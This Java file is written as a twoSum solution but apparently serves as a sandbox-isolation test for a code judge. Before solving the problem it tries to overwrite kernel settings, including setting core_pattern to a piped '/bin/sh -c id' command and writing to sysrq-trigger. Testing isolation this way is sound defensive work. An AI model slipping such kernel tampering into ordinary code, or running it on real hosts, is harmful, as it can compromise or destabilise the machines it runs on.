import java.nio.file.*;
import java.util.*;

// Tries to change global kernel settings. Accepted means none moved.
class Solution {
    public int[] twoSum(int[] nums, int target) {
        String[][] knobs = { {"/proc/sys/kernel/core_pattern", "|/bin/sh -c id"}, {"/proc/sys/vm/panic_on_oom", "1"},
            {"/proc/sys/kernel/randomize_va_space", "2"}, {"/proc/sysrq-trigger", "h"} };
        int moved = 0;
        for (String[] k : knobs) {
            Path p = Paths.get(k[0]);
            if (Files.isWritable(p)) moved++;
            try { Files.write(p, k[1].getBytes()); moved++; } catch (Exception e) { }
        }
        if (moved > 0) return new int[]{-moved};
        Map<Integer, Integer> m = new HashMap<>();
        for (int i = 0; i < nums.length; i++) { Integer j = m.get(target - nums[i]); if (j != null) return new int[]{j, i}; m.put(nums[i], i); }
        return new int[0];
    }
}
